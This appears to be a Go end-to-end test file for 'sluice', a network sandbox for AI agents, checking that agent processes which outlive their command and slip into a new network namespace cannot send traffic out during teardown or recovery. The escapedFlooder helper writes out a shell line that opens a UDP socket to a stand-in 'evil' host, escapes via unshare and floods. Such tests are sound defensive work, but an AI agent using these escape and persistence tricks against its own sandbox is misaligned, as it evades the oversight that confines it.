package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sluicegw/sluice/testing/nstest"
)

// floodPort is a UDP sink of the fake internet that no test allows.
const floodPort = "123"

// escapedFlooder returns a shell line that starts, in the background, an
// agent process built to outlive its command: it opens a UDP socket in the
// agent's network namespace, moves itself into a new network namespace
// (where a scan of /proc/PID/ns/net no longer finds it) and sends on that
// socket as fast as it can. It touches ready once it has sent. marker is
// in its command line, for pgrep.
func escapedFlooder(ready, marker string) string {
	inner := `echo x >&3; touch ` + ready + `; while :; do echo x >&3; done 2>/dev/null`
	return `bash -c 'exec 3>/dev/udp/` + evilAddr + `/` + floodPort + `; exec unshare -n bash -c "` + inner + `" ` + marker + `' ` + marker + ` &`
}

// floodContacts counts the datagrams that reached the flood sink.
func (w *world) floodContacts() int {
	n := 0
	for _, c := range w.sinkContacts() {
		if c.Local == evilAddr+":"+floodPort {
			n++
		}
	}
	return n
}

// survivors lists the processes whose command line holds marker.
func survivors(t *testing.T, marker string) []string {
	t.Helper()
	out, _ := exec.Command("pgrep", "-f", marker).Output()
	return strings.Fields(string(out))
}

// killSurvivorsAtEnd kills, when the test ends, whatever process holds
// marker, so that a failure leaves nothing running.
func killSurvivorsAtEnd(t *testing.T, marker string) {
	t.Cleanup(func() { _ = exec.Command("pkill", "-9", "-f", marker).Run() })
}

// TestTeardownLeaksNothing: an agent process that outlives its command,
// even one that left the agent's network namespace but kept a socket in
// it, sends nothing out while sluice tears down, and does not survive it.
func TestTeardownLeaksNothing(t *testing.T) {
	w := newWorld(t)
	ready := filepath.Join(t.TempDir(), "ready")
	marker := "flood-" + nstest.Prefix()
	killSurvivorsAtEnd(t, marker)
	r := w.run(t, nil, escapedFlooder(ready, marker)+`
while [ ! -e `+ready+` ]; do sleep 0.01; done
echo flooding=1`)
	// The flooder ran and its datagrams met the table: the same path that
	// would carry them out if the table went before the link.
	if !strings.Contains(r.stdout, "flooding=1") || !strings.Contains(r.stderr, "dst="+evilAddr+":"+floodPort) {
		t.Fatalf("the flooder did not run, or its datagrams were not refused during the run; the test tests nothing")
	}
	if n := w.floodContacts(); n > 0 {
		t.Errorf("%d datagrams of an agent process reached the outside during teardown", n)
	}
	if s := survivors(t, marker); len(s) > 0 {
		t.Errorf("agent processes survived the run: %v", s)
	}
}

// TestRecoveryLeaksNothing: after a kill -9 of sluice, the agent lives on,
// cut off; the next start ends it and removes what the dead run left
// without letting a datagram of it out.
func TestRecoveryLeaksNothing(t *testing.T) {
	w := newWorld(t)
	ready := filepath.Join(t.TempDir(), "ready")
	marker := "flood-" + nstest.Prefix()
	killSurvivorsAtEnd(t, marker)
	a := startAgent(t, w, nil, escapedFlooder(ready, marker)+"\nsleep 120")
	waitFor(t, func() bool { _, err := os.Stat(ready); return err == nil })
	a.kill(t)
	if len(survivors(t, marker)) == 0 {
		t.Fatal("the flooder died with sluice; the test does not test recovery")
	}
	r := w.run(t, nil, "true")
	if !strings.Contains(r.stderr, "killed the agent") || !strings.Contains(r.stderr, "removed link sl") {
		t.Errorf("the next start did not report ending the dead run's agent and link:\n%s", r.stderr)
	}
	if n := w.floodContacts(); n > 0 {
		t.Errorf("%d datagrams of the dead run's agent reached the outside during recovery", n)
	}
	if s := survivors(t, marker); len(s) > 0 {
		t.Errorf("the dead run's agent processes survived the next start: %v", s)
	}
}

// TestSecondRunRefused: a second sluice run in the same gateway namespace
// that cannot coexist with a running one (the same agent name, or the
// same agent network) is refused and names the process that holds it;
// the first one is not disturbed.
func TestSecondRunRefused(t *testing.T) {
	w := newWorld(t)
	dir := t.TempDir()
	ready, release := filepath.Join(dir, "ready"), filepath.Join(dir, "release")
	c := w.curl()
	first := startAgent(t, w, []string{"--allow", "allowed.test"},
		prelude+"touch "+ready+"\nwhile [ ! -e "+release+" ]; do sleep 0.05; done\ntry first_after "+c+" https://allowed.test/")
	waitFor(t, func() bool { _, err := os.Stat(ready); return err == nil })
	held := fmt.Sprintf("is held by another sluice in this network namespace (agent \"sh\", pid %d)", first.pid())
	for _, tc := range []struct {
		flags []string
		want  string
	}{
		{[]string{"--name", "sh", "--agent-net", "198.18.0.4/30", "--agent-net6", "2001:db8:b::/64"}, `agent name "sh" ` + held},
		{[]string{"--name", "other"}, "agent network " + agentNet + " (overlapping " + agentNet + ") " + held},
	} {
		args := append(append([]string{"netns", "exec", w.gw.Name, sluiceBin}, sluiceArgs(tc.flags...)...), "--", "echo", "ran")
		cmd := exec.Command("ip", args...)
		second, err := cmd.CombinedOutput()
		code := cmd.ProcessState.ExitCode()
		if err == nil || code != 1 || strings.Contains(string(second), "ran") || !strings.Contains(string(second), tc.want) {
			t.Errorf("second run %v: exit %d, output %q; want exit 1 naming %q", tc.flags, code, second, tc.want)
		}
	}
	if err := os.WriteFile(release, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if r := first.wait(t); !strings.Contains(r.stdout, "first_after=0") {
		t.Errorf("the first run was disturbed by the second:\n%s", r.stdout)
	}
	w.assertClean(t)
}

// TestTeardownOrder: a process in the agent's network namespace that is
// not in its PID namespace (entered from the host) and then hides in a
// namespace of its own, keeping a socket in the agent's, outlives
// everything sluice can kill. It still sends nothing out while sluice
// tears down: the link goes before the table.
func TestTeardownOrder(t *testing.T) {
	w := newWorld(t)
	dir := t.TempDir()
	ready, goOn, floodReady := filepath.Join(dir, "ready"), filepath.Join(dir, "go"), filepath.Join(dir, "flood-ready")
	marker, floodMarker := "cmd-"+nstest.Prefix(), "flood-"+nstest.Prefix()
	killSurvivorsAtEnd(t, floodMarker)
	a := startAgent(t, w, nil, "# "+marker+"\ntouch "+ready+"\nwhile [ ! -e "+goOn+" ]; do sleep 0.02; done\n")
	waitFor(t, func() bool { _, err := os.Stat(ready); return err == nil })
	// The command itself, not sluice, whose arguments hold the script too;
	// nor a child it is forking for sleep, which for a moment looks the same.
	pids := survivors(t, "^sh -c # "+marker)
	pids = slices.DeleteFunc(pids, func(pid string) bool { return slices.Contains(pids, parentOf(pid)) })
	if len(pids) != 1 {
		t.Fatalf("the command's process: found %v", pids)
	}
	flood := exec.Command("nsenter", "-t", pids[0], "-n", "sh", "-c", escapedFlooder(floodReady, floodMarker))
	// No pipes: the flooder, in the background, would hold them open.
	if err := flood.Run(); err != nil {
		t.Fatalf("start the flooder: %v", err)
	}
	waitFor(t, func() bool { _, err := os.Stat(floodReady); return err == nil })
	// Its datagrams meet the table (the control below): wait for the log.
	waitFor(t, func() bool { return strings.Contains(a.logged(), "dst="+evilAddr+":"+floodPort) })
	if err := os.WriteFile(goOn, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	r := a.wait(t)
	if !strings.Contains(r.stderr, "dst="+evilAddr+":"+floodPort) {
		t.Fatal("the flooder's datagrams were not refused during the run; the test tests nothing")
	}
	if len(survivors(t, floodMarker)) == 0 {
		t.Fatal("the flooder did not outlive the run; the test does not test the order")
	}
	if n := w.floodContacts(); n > 0 {
		t.Errorf("%d datagrams of a surviving agent process reached the outside during teardown", n)
	}
	w.assertClean(t)
}

// parentOf returns the parent's pid of pid, "" if it is gone.
func parentOf(pid string) string {
	b, err := os.ReadFile("/proc/" + pid + "/stat")
	if err != nil {
		return ""
	}
	// The command name (field 2) may hold spaces; fields after it do not.
	i := strings.LastIndexByte(string(b), ')')
	if f := strings.Fields(string(b[i+1:])); i >= 0 && len(f) > 1 {
		return f[1]
	}
	return ""
}
